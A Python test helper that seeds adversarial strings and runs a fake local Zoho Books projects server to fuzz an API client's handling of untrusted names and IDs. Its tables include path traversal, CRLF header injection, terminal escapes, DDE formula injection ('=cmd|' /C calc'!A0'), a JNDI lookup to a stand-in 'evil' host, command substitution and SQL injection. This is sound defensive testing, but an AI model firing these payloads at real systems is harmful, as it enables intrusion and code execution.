"""Texts that mean harm, made from a seed; and a provider that says them and writes down all."""

import asyncio
import json
import random
from collections.abc import AsyncIterator, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlsplit

PAGE = 200
FIRST = 460_000_000_000_001
PATHS = (
    *("../", "..", ".", "/../users/7", "..\\", "%2e%2e/", "%2F", "//", "/", "\\", "?x=1", "#"),
    *(";v=1", "&organization-id=1", ":id", "timer", "*", "//evil.example/", "http://evil/"),
)
LINES = (
    "\r\n",
    "\n",
    "\r",
    "\x00",
    "\x0b",
    "\x85",
    "\u2028",
    "\r\nHost: evil\r\n\r\n",
    " HTTP/1.1",
)
TERMINALS = (
    *("\x1b[2J", "\x1b]0;owned\x07", "\x1b]8;;http://evil\x1b\\", "\x9b31m", "\x9d52;c;eA\x07"),
    *("\x08\x08\x08", "\x7f", "\x1bP$q\x1b\\", "\x1b[5m", "\x07"),
)
SIGHT = ("\u202e", "\u2066", "\u200f", "\u200b", "\ufeff", "\u00ad", "e\u0301", "\U000e0041")
FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil","x")', "+1+1", "-2+3", "@SUM(1)"),
    *("\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", '"=1', "',=1", " =1"),
)
DIGITS = ("42", "042", "0", "-42", "+42", "4_2", "1e3", "0x2a", "\u0664\u0662", "\uff14", "\u00b2")
OTHER = (
    *("<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil}", "$(id)", "`id`", "%s%n"),
    *("' OR 1=1 --", "; DROP TABLE jobs", "[bold]", "[/]", "\ud800", "\U0001f4a3", "x" * 400),
)
EVERY = (*PATHS, *LINES, *TERMINALS, *SIGHT, *FORMULAS, *DIGITS, *OTHER)


def texts(number: int, seed: int) -> list[str]:
    """So many texts; each trick alone comes first, then they are put together."""
    rng = random.Random(seed)
    made = [*EVERY, "", " "][:number]
    while len(made) < number:
        parts = [rng.choice((*EVERY, "42", "7", "a")) for _ in range(rng.randint(1, 4))]
        made.append("".join(parts))
    return made


def ids(number: int, seed: int) -> list[str]:
    """So many ids: some are good ones, some nearly, most are not."""
    rng = random.Random(seed)
    good = [str(rng.randint(1, 10**18)) for _ in range(number // 10)]
    near = [f"{rng.randint(1, 999)}{rng.choice('._:-aZ')}{n}" for n in range(number // 10)]
    made = good + near + texts(number - len(good) - len(near), seed)
    rng.shuffle(made)
    return made


@dataclass(slots=True, kw_only=True)
class Liar:
    """A Zoho Books whose projects have these names, and which refuses every third with a text.

    `lines` are the first lines of all requests, as they came.
    """

    names: Sequence[str]
    said: Sequence[str]
    lines: list[bytes] = field(default_factory=list)
    url: str = ""

    def id_of(self, number: int) -> str:
        return str(FIRST + number)

    async def talk(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while head := await reader.readuntil(b"\r\n\r\n"):
                line = head.partition(b"\r\n")[0]
                self.lines.append(line)
                status, body = self._answer(*line.split(b" ")[:2])
                text = json.dumps(body).encode()
                start = f"HTTP/1.1 {status} X\r\nContent-Type: application/json\r\n"
                odd = "X-Request-Id: =1+1\r\nServer: \x1b[2J\r\n".replace("\x1b", "@")
                writer.write(f"{start}{odd}Content-Length: {len(text)}\r\n\r\n".encode() + text)
                await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            writer.close()

    def _answer(self, method: bytes, target: bytes) -> tuple[int, Mapping[str, object]]:
        url = urlsplit(target.decode("ascii"))
        if method == b"DELETE":
            number = int(url.path.rpartition("/")[2]) - FIRST
            if number % 3:
                return 200, {"code": 0, "message": self.said[number]}
            return 400, {"code": 9020, "message": self.said[number]}
        if url.path.endswith("/projects"):
            page = int(parse_qs(url.query).get("page", ["1"])[0])
            rows = [self._row(n) for n in range(len(self.names))][(page - 1) * PAGE :][:PAGE]
            more = page * PAGE < len(self.names)
            context = {"page": page, "per_page": PAGE, "has_more_page": more}
            return 200, {"code": 0, "message": "ok", "projects": rows, "page_context": context}
        number = int(url.path.rpartition("/")[2]) - FIRST
        return 200, {"code": 0, "message": "ok", "project": self._row(number)}

    def _row(self, number: int) -> Mapping[str, object]:
        at = "2025-01-06T10:05:43+0530"
        return {
            "project_id": self.id_of(number),
            "project_name": self.names[number],
            "status": "active",
            "created_time": at,
            "last_modified_time": at,
        }


@asynccontextmanager
async def lying(names: Sequence[str], said: Sequence[str]) -> AsyncIterator[Liar]:
    """Such a provider, while it listens."""
    liar = Liar(names=names, said=said)
    server = await asyncio.start_server(liar.talk, "127.0.0.1", 0)
    liar.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    try:
        yield liar
    finally:
        server.close()
